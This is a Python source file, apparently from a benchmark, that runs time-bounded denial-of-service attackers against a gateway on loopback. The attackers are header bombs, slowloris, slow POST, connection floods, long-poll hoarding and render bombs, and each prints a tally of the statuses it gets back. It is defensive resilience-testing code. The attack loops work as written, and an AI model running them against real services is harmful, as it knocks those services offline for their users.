"""Attackers for case 10, each a bounded loop run in a process of its own, so
that its cost lands on the service and not on the honest caller's event loop.

    python -m bench.attacks KIND BASE_URL SECONDS [TASK_PATH]

KIND is one of ATTACKS. Each attacker reconnects whenever the gateway cuts
it off, stops by itself after SECONDS, and prints one JSON line: what it
did and what it was answered. Traffic goes to BASE_URL only (loopback).
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import resource
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from urllib.parse import urlsplit

CHUNK = b"a" * 65_536
HEADER_BOMB_BYTES = 200 * 1024 * 1024  # per connection, as the attacker sent
SLOW_CONNECTIONS = 5_000  # slowloris and slow POST: past any cap on connections we would set
FLOOD_CONNECTIONS = 5_000
HOARD_WAITS = 1_100  # long polls held by one caller
RENDER_BOMBS = 2  # creates whose plot is 10,000 newlines, in flight at once
# Attacks come from another loopback address than the honest caller's, as
# another machine's would: limits per caller address tell them apart.
SOURCE = "127.0.0.2"


class Tally:
    def __init__(self) -> None:
        self.connections = 0
        self.sent = 0
        self.statuses: Counter[str] = Counter()

    def answer(self, head: bytes) -> None:
        parts = head.split(b" ", 2)
        self.statuses[parts[1].decode() if len(parts) > 1 else "closed"] += 1


async def _open(url: str, tally: Tally) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    parts = urlsplit(url)
    tally.connections += 1
    return await asyncio.open_connection(parts.hostname, parts.port, local_addr=(SOURCE, 0))


async def _status(reader: asyncio.StreamReader, tally: Tally) -> None:
    with contextlib.suppress(OSError, asyncio.IncompleteReadError):
        tally.answer(await reader.readline())
        return
    tally.statuses["closed"] += 1


async def _close(writer: asyncio.StreamWriter) -> None:
    writer.close()
    with contextlib.suppress(OSError):
        await writer.wait_closed()


async def header_bomb(url: str, until: float, task: str, tally: Tally) -> None:
    """One endless header line, 200 MB of it, then again."""
    while time.monotonic() < until:
        reader, writer = await _open(url, tally)
        try:
            writer.write(b"GET /videos HTTP/1.1\r\nHost: localhost\r\nX-Bomb: ")
            sent = 0
            while sent < HEADER_BOMB_BYTES and time.monotonic() < until:
                writer.write(CHUNK)
                await writer.drain()
                sent += len(CHUNK)
            tally.sent += sent
            await asyncio.wait_for(_status(reader, tally), 5)
        except (OSError, TimeoutError):
            tally.statuses["cut off"] += 1
        finally:
            await _close(writer)
        await asyncio.sleep(0.05)


async def _drip(url: str, until: float, tally: Tally, opening: bytes, drop: bytes) -> None:
    """Send opening, then one byte a second until answered, cut off, or done."""
    while time.monotonic() < until:
        reader, writer = await _open(url, tally)
        try:
            writer.write(opening)
            while time.monotonic() < until and not reader.at_eof():
                writer.write(drop)
                await writer.drain()
                tally.sent += 1
                with contextlib.suppress(TimeoutError):
                    await asyncio.wait_for(_status(reader, tally), 1)
                    break
        except OSError:
            tally.statuses["cut off"] += 1
        finally:
            await _close(writer)


async def slowloris(url: str, until: float, task: str, tally: Tally) -> None:
    """A request head, one byte a second, never finished."""
    await _drip(url, until, tally, b"GET /videos HTTP/1.1\r\nHost: localhost\r\n", b"X")


async def slow_post(url: str, until: float, task: str, tally: Tally) -> None:
    """A POST that promises 60,000 bytes and sends one a second."""
    head = (
        b"POST /videos/tasks HTTP/1.1\r\nHost: localhost\r\n"
        b"Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n{"
    )
    await _drip(url, until, tally, head, b" ")


async def flood(url: str, until: float, task: str, tally: Tally) -> None:
    """A connection that asks once, then stays open doing nothing."""
    while time.monotonic() < until:
        reader, writer = await _open(url, tally)
        try:
            writer.write(f"GET {task} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode())
            await _status(reader, tally)
            while time.monotonic() < until and await reader.read(65_536):
                pass  # the rest of the answer, then idle until the gateway closes it
        except OSError:
            tally.statuses["cut off"] += 1
        finally:
            await _close(writer)


async def hoard(url: str, until: float, task: str, tally: Tally) -> None:
    """Long polls on a task that stays pending, held as long as allowed."""
    request = f"GET {task}?wait=60s HTTP/1.1\r\nHost: localhost\r\n\r\n".encode()
    while time.monotonic() < until:
        reader, writer = await _open(url, tally)
        try:
            writer.write(request)
            await asyncio.wait_for(_status(reader, tally), max(0.1, until - time.monotonic()))
        except TimeoutError:
            tally.statuses["held"] += 1
        except OSError:
            tally.statuses["cut off"] += 1
        finally:
            await _close(writer)
        await asyncio.sleep(1.0)  # a refused one asks again, not in a tight loop


async def render_bomb(url: str, until: float, task: str, tally: Tally) -> None:
    """Creates whose plot is 10,000 newlines: each page of text a frame."""
    body = json.dumps({"title": "Bomb", "plot": "\n" * 10_000}).encode()
    head = (
        "POST /videos/tasks HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
        f"Content-Length: {len(body)}\r\n\r\n"
    ).encode()
    while time.monotonic() < until:
        reader, writer = await _open(url, tally)
        try:
            writer.write(head + body)
            await _status(reader, tally)
        except OSError:
            tally.statuses["cut off"] += 1
        finally:
            await _close(writer)
        await asyncio.sleep(1.0)  # one create a second each: the renders are the attack


Attack = Callable[[str, float, str, Tally], Awaitable[None]]
ATTACKS: dict[str, tuple[Attack, int]] = {
    "header-bomb": (header_bomb, 5),
    "slowloris": (slowloris, SLOW_CONNECTIONS),
    "slow-post": (slow_post, SLOW_CONNECTIONS),
    "connection-flood": (flood, FLOOD_CONNECTIONS),
    "long-poll-hoard": (hoard, HOARD_WAITS),
    "render-bomb": (render_bomb, RENDER_BOMBS),
}


async def attack(kind: str, url: str, seconds: float, task: str) -> Tally:
    loop, workers = ATTACKS[kind]
    tally = Tally()
    until = time.monotonic() + seconds

    async def guarded() -> None:
        try:
            await loop(url, until, task, tally)
        except OSError as exc:  # out of ports or descriptors: the attacker's limit, not ours
            tally.statuses[f"attacker: {type(exc).__name__}"] += 1

    await asyncio.gather(*(guarded() for _ in range(workers)))
    return tally


def main() -> None:
    kind, url, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    task = sys.argv[4] if len(sys.argv) > 4 else "/videos"
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    tally = asyncio.run(attack(kind, url, seconds, task))
    print(json.dumps({"kind": kind, "connections": tally.connections, "sent": tally.sent,
                      "statuses": dict(tally.statuses)}), flush=True)  # fmt: skip


if __name__ == "__main__":
    main()
